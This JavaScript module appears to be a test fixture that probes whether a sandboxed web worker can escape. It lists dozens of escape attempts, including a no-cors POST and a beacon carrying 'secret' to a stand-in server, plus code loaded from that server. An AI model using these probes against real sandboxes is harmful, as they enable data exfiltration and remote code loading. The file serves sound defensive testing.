// What a program may try to get out of its worker: each gives true where it did.
//
// `page` is where the page is, with a script that anybody may have: of_the_page.js. `out` is the address of a server that nothing is to reach; `events(thing, names)` resolves to the name of the first of
// these events.

export const escapes = {
  cookies: `typeof document !== 'undefined' && document.cookie !== undefined`,
  'the cookie store': `await cookieStore.getAll() !== undefined`,
  localStorage: `localStorage.length >= 0`,
  sessionStorage: `sessionStorage.length >= 0`,
  IndexedDB: `await events(indexedDB.open('out'), ['success', 'error']) === 'success'`,
  // An opaque origin may have caches of its own: WebKit's has.
  'the caches of the page': `(await caches.keys()).includes('of the page')`,
  'files of the origin': `(await navigator.storage.getDirectory()) !== undefined`,
  'the DOM of the page': `typeof document !== 'undefined'`,
  parent: `typeof parent !== 'undefined' && parent !== self`,
  top: `typeof top !== 'undefined' && top !== self`,
  opener: `typeof opener !== 'undefined'`,
  frames: `typeof frames !== 'undefined'`,
  navigation: `(self.location = out, location.href.startsWith(out))`,
  'navigation by assign': `(location.assign(out), true)`,
  'a popup': `open(out) !== null`,
  'an alert': `(alert(1), true)`,
  'a download': `(document.createElement('a').click(), true)`,
  'a service worker': `await navigator.serviceWorker.register(out + '/sw.js') !== undefined`,
  'a shared worker': `new SharedWorker(out + '/w.js') !== undefined`,
  'a nested worker': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) !== undefined`,
  'a nested worker from elsewhere': `await events(new Worker(out + '/w.js'), ['message', 'error']) === 'message'`,
  'a broadcast channel': `new BroadcastChannel('all') !== undefined`,
  'a message to the frame': `(postMessage({ type: 'frame-failed', reason: 'forged' }), true)`,
  'the end of the worker, unnoticed': `(close(), true)`,
  eval: `eval('1') === 1`,
  Function: `new Function('return 1')() === 1`,
  'a timer of text': `await new Promise((resolve) => { self.timed = () => resolve(true); setTimeout('timed()', 0); setTimeout(() => resolve(false), 50) })`,
  'importScripts from elsewhere': `(importScripts(out + '/s.js'), true)`,
  'import from elsewhere': `await imported(out + '/m.js')`,
  'import of a module of the page': `await imported(page + '/of_the_page.js')`,
  'import of a data: address': `await imported('data:text/javascript,1')`,
  fetch: `await fetch(out + '/fetch') !== undefined`,
  'fetch without CORS': `await fetch(out + '/fetch', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }) !== undefined`,
  'fetch of the page': `await fetch(page + '/of_the_page.js') !== undefined`,
  XMLHttpRequest: `await events(asked(true), ['load', 'error']) === 'load'`,
  'XMLHttpRequest, waiting': `asked(false).status > 0`,
  WebSocket: `await events(new WebSocket(out.replace('http', 'ws')), ['open', 'error']) === 'open'`,
  EventSource: `await events(new EventSource(out + '/events'), ['open', 'error']) === 'open'`,
  WebTransport: `await new WebTransport(out.replace('http', 'https')).ready !== undefined`,
  'a beacon': `navigator.sendBeacon(out + '/beacon', 'secret') === true`,
  'a peer connection': `new RTCPeerConnection({ iceServers: [{ urls: out.replace('http://', 'stun:') }] }) !== undefined`,
  'a font': `await new FontFace('out', 'url(' + out + '/font.woff2)').load() !== undefined`,
  'an image': `(new Image().src = out + '/image.png', true)`,
  'the cache by an address': `(await (await caches.open('x')).add(out + '/cached')) === undefined`,
  'streaming WebAssembly': `await WebAssembly.compileStreaming(fetch(out + '/w.wasm')) !== undefined`,
  'a notification': `(new Notification('out', { icon: out + '/icon.png' }), Notification.permission === 'granted')`,
};

/** In real time a program may ask the network, by these. */
export const mayAsk = [
  'fetch',
  'fetch without CORS',
  'fetch of the page',
  'XMLHttpRequest',
  'XMLHttpRequest, waiting',
  'EventSource',
  'a beacon',
  'the cache by an address',
  'streaming WebAssembly',
];

/** The program that tries one of them and prints what came of it. */
export const attempt = (code, out, page) => `const out = '${out}', page = '${page}'
const events = (thing, names) => new Promise((resolve) => {
  for (const name of names) thing.addEventListener(name, (event) => { event.preventDefault?.(); resolve(name) })
  setTimeout(() => resolve('nothing'), 300)
})
const asked = (later) => { const request = new XMLHttpRequest(); request.open('GET', out + '/xhr', later); request.send(); return request }
// The program's own import() is refused before it runs; a script that is no module has one that is not.
const imported = async (address) => {
  self.address = address
  importScripts(URL.createObjectURL(new Blob(['self.imported = import(self.address)'])))
  await self.imported
  return true
}
try {
  const got = ${code}
  console.log(got ? 'GOT OUT' : 'refused')
} catch (error) {
  console.log('refused')
}`;
